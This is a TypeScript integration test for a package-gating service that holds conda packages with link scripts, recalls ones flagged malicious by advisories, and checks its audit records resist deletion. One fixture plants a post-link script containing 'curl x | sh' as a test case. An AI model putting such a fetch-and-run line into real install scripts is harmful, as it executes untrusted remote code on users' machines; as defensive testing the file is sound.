import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { DeleteObjectCommand } from '@aws-sdk/client-s3';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildChannel } from '../../../local/sample/build-channel.ts';
import { type FolderServer, serveFolder } from '../../../local/sample/serve-folder.ts';
import { osvExport, osvRecord, recentRecord } from '../../support/advisories/osv-export.ts';
import { small } from '../../support/cli/start-lab.ts';
import { type TemporaryFolder, temporaryFolder } from '../../support/machine/temporary-folder.ts';
import { appOutput, deadLetters, noDeadLetters, openScene, type Scene } from './scene.ts';

const minutes = { timeout: 300_000 };

/** A package that installs a release of PyPI's. */
const holding = (name: string) =>
  small(`${name} 1.0`, [], {
    files: [
      {
        path: `lib/python3.12/site-packages/${name}-1.0.dist-info/METADATA`,
        content: `Metadata-Version: 2.1\nName: ${name}\nVersion: 1.0\n`,
      },
    ],
  });

describe('the gate, in the stack', { shuffle: false }, () => {
  let folder: TemporaryFolder;
  let upstream: FolderServer;
  let scene: Scene;
  beforeAll(async () => {
    folder = await temporaryFolder();
    const linked = small('b 2.0', [], { files: [{ path: 'bin/.b-post-link.sh', content: 'curl x | sh\n' }] });
    await buildChannel(join(folder.path, 'upstream'), [small('a 1.0'), holding('b'), linked], { forms: ['json'] });
    await advise([]);
    upstream = await serveFolder(join(folder.path, 'upstream'));
    const policy = { advisories: `${upstream.url}/advisories.zip` };
    const allowlist = { channels: [upstream.url], platforms: ['linux-64'], packages: ['a', 'b'], policy };
    scene = await openScene(await appOutput(folder, JSON.stringify(allowlist)));
    await scene.stack.rest();
  }, 300_000);
  afterAll(async () => {
    await scene[Symbol.asyncDispose]();
    await upstream.close();
    await folder[Symbol.asyncDispose]();
  });

  async function advise(projects: readonly string[]): Promise<void> {
    const at = Date.now() - 3_600_000;
    const bad = projects.map((project) => osvRecord({ id: 'MAL-2026-1', project, at, versions: ['1.0'] }));
    const days = [0, 1, 2].map((day) => ({ ...recentRecord(Date.now() + day * 86_400_000), id: `PYSEC-2026-${day}` }));
    await writeFile(join(folder.path, 'upstream', 'advisories.zip'), osvExport([...bad, ...days]));
  }

  const text = (path: string) => scene.contents(path)[path] ?? '';
  const runs = () =>
    Object.entries(scene.contents('_gatehouse/runs/')).flatMap(([path, body]) =>
      /runs\/[0-9a-f]{64}\.json$/.test(path) ? [JSON.parse(body)] : [],
    );

  it('holds what came with a link script, plans around it, and settles', minutes, async () => {
    expect(text('conda/linux-64/repodata.json')).toContain('b-1.0-0.conda');
    expect(text('conda/linux-64/repodata.json')).not.toContain('b-2.0');
    expect(runs().some(({ round, stage }) => round === 2 && stage === 'settled')).toBe(true);
    expect(Object.keys(scene.contents('_gatehouse/held/'))).toHaveLength(1);
    expect(text('_gatehouse/proof/conda.json')).not.toContain('"installable":false');
    expect(await scene.damage(['linux-64'])).toEqual([]);
    expect(deadLetters(scene)).toEqual(noDeadLetters);
  });

  it('takes back what became known as malicious, by the rule that sweeps', minutes, async () => {
    await advise(['b']);
    await scene.stack.fire('ChannelSweep');
    await scene.stack.rest();
    expect(text('conda/linux-64/repodata.json')).not.toContain('b-1.0');
    expect(text('conda/linux-64/repodata.json')).toContain('a-1.0-0.conda');
    expect(Object.keys(scene.contents('conda/linux-64/b-'))).toEqual([]);
    expect(text('conda/notices.json')).toContain('b 1.0 was recalled');
    expect(Object.keys(scene.contents('_gatehouse/recalled/'))).toHaveLength(2);
    expect(await scene.damage(['linux-64'])).toEqual([]);
    expect(deadLetters(scene)).toEqual(noDeadLetters);
  });

  it('keeps the record, whoever asks', minutes, async () => {
    const records = ['verdicts', 'ledger', 'recalled'].flatMap((kind) =>
      Object.keys(scene.contents(`_gatehouse/${kind}/`)),
    );
    expect(records.length).toBeGreaterThan(8);
    for (const Key of records) {
      const deleting = scene.clients.s3.send(new DeleteObjectCommand({ Bucket: scene.stack.bucket, Key }));
      await expect(deleting, Key).rejects.toMatchObject({ name: 'AccessDenied' });
    }
  });
});
